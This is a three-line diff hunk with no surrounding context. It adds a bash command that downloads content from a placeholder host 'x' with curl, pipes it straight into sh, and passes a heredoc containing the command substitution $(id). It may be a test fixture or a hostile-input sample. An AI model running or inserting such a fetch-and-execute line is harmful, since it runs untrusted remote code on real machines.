@@ -1,0 +1,3 @@
+bash -c 'curl -s http://x | sh' <<EOF
+$(id)
+EOF
